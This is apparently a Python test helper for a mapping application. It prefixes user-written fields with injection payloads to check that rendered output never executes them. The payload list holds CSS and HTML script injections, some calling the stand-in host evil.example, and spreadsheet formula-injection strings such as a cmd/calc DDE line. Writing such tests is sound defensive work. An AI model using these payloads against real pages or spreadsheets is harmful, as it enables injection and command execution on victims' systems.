"""Texts that would run, break or change what shows them, if it took them for anything but text; and where they are put."""

from __future__ import annotations

import zlib
from collections.abc import Mapping
from dataclasses import replace
from typing import Any, Final

import pandas as pd
from pydantic import BaseModel

from qyp_geo.record import Run
from tests.maps.district import HOSTILE

PAYLOADS: Final = (
    *HOSTILE,
    "red;background:url(https://evil.example/x)",
    "@import 'https://evil.example/x';",
    "expression(alert(1))",
    "https://evil.example/?q=",
    "data:text/html,<script>document.title='owned'</script>",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
)
OWNED: Final = "owned"
"""What a text that ran would write into the title of the page."""

_TEXTS: Final = frozenset(
    {
        *("name", "title", "quote", "note", "source", "area_name", "facility_name", "township", "community", "zones"),
        *("reason", "ownership", "land_use", "unit", "site_name", "scheme_title", "open_hours", "address", "clause"),
    }
)
"""Columns that hold what somebody wrote."""
_SAID: Final = frozenset({"title", "note", "publisher", "licence", "label", "source"})
"""Keys of declarations that hold what somebody wrote."""


def hostile(text: str) -> str:
    """Return a text with one of the payloads before it, always the same one, so that what names a thing still names it."""
    return PAYLOADS[zlib.crc32(text.encode()) % len(PAYLOADS)] + text if text else text


def hostile_run(run: Run) -> Run:
    """Return a run as it would be if all that was written by people were hostile."""
    project = replace(
        run.project,
        district=_record(run.project.district),
        layers={ref: _record(one) for ref, one in run.project.layers.items()},
        analyses={ref: _record(one) for ref, one in run.project.analyses.items()},
        maps={ref: _record(one) for ref, one in run.project.maps.items()},
    )
    layers = {
        ref: replace(
            one, record=project.layers[ref], frame=_table(one.frame), notes=tuple(hostile(note) for note in one.notes)
        )
        for ref, one in run.layers.items()
    }
    results = {
        ref: replace(
            one,
            record=_record(one.record),
            table=_table(one.table),
            parts={part: _table(table) for part, table in one.parts.items()},
            notes=tuple(hostile(note) for note in one.notes),
        )
        for ref, one in run.results.items()
    }
    return replace(run, project=project, layers=layers, results=results)


def _table(table: Any) -> Any:
    written = [name for name in table.columns if name in _TEXTS and not pd.api.types.is_numeric_dtype(table[name])]
    return table.assign(**{name: table[name].map(_value).astype(object) for name in written})


def _value(value: object) -> object:
    return hostile(value) if isinstance(value, str) else value


def _record(record: Any) -> Any:
    return record.model_copy(update=_said(record))


def _said(record: BaseModel) -> dict[str, Any]:
    update: dict[str, Any] = {}
    for name in type(record).model_fields:
        value = getattr(record, name)
        if isinstance(value, BaseModel) and name not in {"source", "scenario"}:
            update[name] = _record(value)
        elif isinstance(value, list) and value and isinstance(value[0], BaseModel) and name == "overlay":
            update[name] = [_record(one) for one in value]
        elif name == "popup" and isinstance(value, Mapping):
            update[name] = {key: hostile(heading) for key, heading in value.items()}
        elif name in _SAID and isinstance(value, str):
            update[name] = hostile(value)
    return update
